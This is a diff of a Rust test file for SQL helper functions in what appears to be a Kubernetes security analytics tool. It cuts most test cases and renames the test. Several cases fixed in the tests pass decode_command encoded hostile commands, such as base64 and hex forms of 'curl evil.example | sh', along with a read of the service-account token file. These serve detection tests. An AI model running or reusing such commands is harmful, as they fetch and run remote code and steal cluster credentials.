@@ -1,4 +1,4 @@
-//! The SQL functions, for every string type.
+//! The SQL functions: string types, parameters and errors. `tests/sqllogic/functions.slt` has their results.
 
 use datafusion::arrow::array::{AsArray, RecordBatch};
 use datafusion::arrow::datatypes::Int64Type;
@@ -8,89 +8,18 @@ use serde_json::json;
 use crate::{column, session, stage};
 
 #[tokio::test]
-async fn functions_say_what_kubernetes_means() {
+async fn functions_take_every_string_type() {
     let session = session(&[], Scope::default()).await;
     for (call, expected) in [
         ("path_within('/etc/kubernetes/pki', '/etc/')", "true"),
-        ("path_within('/etc', '/etc')", "true"),
-        ("path_within('/etcd', '/etc')", "false"),
-        ("path_within('/', '/etc')", "false"),
-        ("path_within('/anything', '/')", "true"),
-        ("path_within('/var/run/docker.sock', '/run')", "true"),
-        ("path_within('/etc/../root', '/etc')", "false"),
         ("path_within(NULL, '/etc')", "null"),
-        ("path_within('/etc', NULL)", "null"),
-        ("path_overlaps('/', '/run/containerd')", "true"),
-        ("path_overlaps('/run/containerd', '/')", "true"),
-        ("path_overlaps('/run', '/etc')", "false"),
         ("normalize_path('/var//run/../run/x/')", "/run/x"),
-        ("image_part('nginx:1.29', 'registry')", "docker.io"),
-        ("image_part('nginx:1.29', 'repository')", "library/nginx"),
         ("image_part('nginx:1.29', 'tag')", "1.29"),
-        ("image_part('nginx:1.29', 'digest')", "null"),
-        ("image_part('a.example/b@sha256:00', 'digest')", "sha256:00"),
         ("user_agent_tool('kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9')", "kubectl"),
-        ("user_agent_version('kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9')", "v1.29.1"),
-        ("user_agent_version('curl')", "null"),
-        ("user_agent_tool('')", "null"),
         ("is_private_ip('10.1.2.3')", "true"),
-        ("is_private_ip('172.32.0.1')", "false"),
-        ("is_private_ip('100.64.0.1')", "true"),
-        ("is_private_ip('100.128.0.1')", "false"),
-        ("is_private_ip('127.0.0.1')", "true"),
-        ("is_private_ip('::1')", "true"),
-        ("is_private_ip('fd00::1')", "true"),
-        ("is_private_ip('::ffff:192.168.0.1')", "true"),
-        ("is_private_ip('2001:4860:4860::8888')", "false"),
-        ("is_private_ip('8.8.8.8')", "false"),
-        ("is_private_ip('unknown')", "null"),
         ("cidr_contains('10.0.0.0/8', '10.1.2.3')", "true"),
-        ("cidr_contains('10.0.0.0/8', '11.1.2.3')", "false"),
-        ("cidr_contains('10.0.0.0/8', '::ffff:10.1.2.3')", "true"),
-        ("cidr_contains('10.1.2.3', '10.1.2.3')", "true"),
-        ("cidr_contains('fd00::/8', '10.1.2.3')", "false"),
-        ("cidr_contains('ten', '10.1.2.3')", "null"),
-        ("is_controller('system:serviceaccount:kube-system:job-controller')", "true"),
-        ("is_controller('system:serviceaccount:default:job-controller')", "false"),
-        ("is_controller(NULL)", "null"),
-        ("date_diff('second', '2026-01-01T00:00:00Z', '2026-01-01T00:01:59.9Z')", "119"),
-        ("date_diff('minute', '2026-01-01T00:02:00Z', '2026-01-01T00:00:30Z')", "-1"),
-        ("date_diff('day', TIMESTAMP '2026-01-01T00:00:00Z', '2026-01-02T23:59:59Z')", "1"),
-        ("date_diff('second', NULL, '2026-01-01T00:00:00Z')", "null"),
-        (
-            "controller_makes('system:serviceaccount:kube-system:job-controller', 'create', 'pods', 'Job')",
-            "true",
-        ),
-        ("controller_makes('system:kube-scheduler', 'create', 'pods', 'ReplicaSet')", "false"),
-        ("controller_makes('system:kube-controller-manager', 'create', 'pods', NULL)", "null"),
-        ("writes_spec('patch', '{\"metadata\": {}}', '')", "false"),
-        ("writes_spec('patch', '', '')", "true"),
         ("glob('kube-system', 'kube-*')", "true"),
-        ("glob('kube-system', '*')", "true"),
-        ("glob('kube-system', '*-sys*m')", "true"),
-        ("glob('kube-system', 'kube')", "false"),
-        ("glob('a_c', 'a_c')", "true"),
-        ("glob('abc', 'a_c')", "false"),
-        ("glob('abc', '%')", "false"),
-        ("glob(NULL, '*')", "null"),
-        (
-            "decode_command('echo Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== | base64 -d | sh')",
-            "curl evil.example | sh",
-        ),
         ("decode_command('powershell -enc YwB1AHIAbAAgAGUAdgBpAGwA')", "curl evil"),
-        ("decode_command('X=Y3VybCBldmlsLmV4YW1wbGUgfCBzaA')", "curl evil.example | sh"),
-        ("decode_command('xxd -r -p <<< 6375726c206576696c2e6578616d706c65')", "curl evil.example"),
-        (r"decode_command('printf \x63\x75\x72\x6c')", "curl"),
-        ("decode_command('wget host/%2e%2e/%65tc')", "host/../etc"),
-        // Base64 of Base64.
-        ("decode_command('WTNWeWJDQmxkbWxzTG1WNFlXMXdiR1U9')", "curl evil.example"),
-        ("decode_command('kubectl get pods --namespace=kube-system-monitoring')", "null"),
-        ("decode_command('cat /var/run/secrets/kubernetes.io/serviceaccount/token')", "null"),
-        (
-            "decode_command('docker.io/library/nginx@sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31')",
-            "null",
-        ),
-        ("decode_command('')", "null"),
     ] {
         for text in ["VARCHAR", "Utf8", "LargeUtf8", "Utf8View"] {
             // The first argument in each of the types, as a constant and as a column.
